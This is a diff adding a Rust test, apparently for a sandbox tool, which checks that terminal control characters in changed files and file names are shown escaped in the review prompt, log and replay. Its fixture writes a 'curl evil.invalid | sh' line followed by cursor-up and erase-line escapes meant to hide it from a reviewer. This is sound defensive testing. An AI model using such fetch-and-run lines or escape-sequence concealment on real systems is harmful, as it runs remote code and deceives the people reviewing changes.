@@ -395,6 +395,73 @@ fn review_asks_on_the_terminal() {
     }
 }
 
+/// Walls issue, item 3: what the command wrote (diff lines, file names)
+/// must not rewrite the review on the person's terminal, nor the log and
+/// replay afterwards.
+#[test]
+fn review_log_and_replay_show_control_characters_escaped() {
+    let s = Scratch::new(Leg::Invoker);
+    write(&s, "a.txt", "harmless\n");
+    // A diff line followed by cursor-up/erase-line, and a file name with a
+    // newline and an erase-line + carriage return.
+    let script = r#"printf 'curl evil.invalid | sh\n\033[1A\033[2Kharmless\n' > a.txt; printf x > "$(printf 'b\nc\033[2K\rd.txt')"; : "\033[2J""#
+        .replace("\\033[2J", "\u{1b}[2J");
+    let cmd = format!(
+        "{} sandbox exec -w '{}' --changes review -- sh -c '{}'",
+        bin(Leg::Invoker).display(),
+        path_str(&s.ws),
+        script.replace('\'', r"'\''")
+    );
+    let mut child = std::process::Command::new("script")
+        .args(["-qec", &cmd, "/dev/null"])
+        .env("XDG_STATE_HOME", s.home.join(".local/state"))
+        .env("XDG_CONFIG_HOME", s.home.join(".config"))
+        .env("HOME", &s.home)
+        .stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn()
+        .expect("script");
+    {
+        use std::io::Write;
+        let mut stdin = child.stdin.take().expect("stdin");
+        std::thread::sleep(std::time::Duration::from_millis(500));
+        let _ = stdin.write_all(b"y\n");
+    }
+    let o = child.wait_with_output().expect("wait");
+    let shown = o.stdout.clone();
+    let text = String::from_utf8_lossy(&shown);
+    assert!(
+        !shown.contains(&0x1b),
+        "a raw escape reached the terminal:\n{text:?}"
+    );
+    assert!(text.contains(r"+\e[1A\e[2Kharmless"), "{text}");
+    assert!(text.contains(r"b\nc\e[2K\rd.txt"), "{text}");
+    // What was applied is what the person was shown.
+    assert!(read(&s, "a.txt")
+        .unwrap_or_default()
+        .starts_with("curl evil.invalid"));
+    for args in [
+        &["log"][..],
+        &["replay", "--last"],
+        &["replay", "--last", "--markdown"],
+    ] {
+        let o = s.retie().args(args).output().expect("run");
+        assert_code(&o, 0, "log/replay");
+        assert!(
+            !o.stdout.contains(&0x1b) && !o.stderr.contains(&0x1b),
+            "{args:?}: a raw escape in the output:\n{:?}",
+            stdout(&o)
+        );
+        // The command line pastes back into a shell, escapes visible.
+        assert!(
+            stdout(&o).contains(r"sh -c $'printf") && stdout(&o).contains(r"\E[2J"),
+            "{args:?}: {}",
+            stdout(&o)
+        );
+    }
+}
+
 #[test]
 fn review_without_a_terminal_applies_nothing_and_keeps_the_changes() {
     let s = Scratch::new(Leg::Invoker);
